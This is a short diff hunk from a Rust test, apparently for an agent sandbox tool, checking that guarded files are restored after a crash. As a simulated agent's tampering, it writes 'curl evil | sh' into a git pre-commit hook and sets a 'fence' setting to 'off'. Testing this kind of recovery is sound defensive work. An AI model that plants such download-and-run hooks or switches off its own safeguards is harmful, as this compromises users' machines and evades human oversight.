@@ -262,7 +262,7 @@ fn guarded_paths_are_put_back_at_the_next_start_after_a_crash() {
     let journal = Journal::new(cfg.journal_dir());
     let mut sidecars = Sidecars::new(&journal, &tid("t1"));
     let guard_dir = cfg.berth_home.join("guard");
-    sidecars.guard(&pinned, &guard_dir).unwrap();
+    sidecars.guard(&pinned, &guard_dir, &[]).unwrap();
     // The agent, then the crash.
     std::fs::write(dir.join(".git/hooks/pre-commit"), "curl evil | sh").unwrap();
     std::fs::write(dir.join(".berth/settings.jsonc"), r#"{"fence": "off"}"#).unwrap();
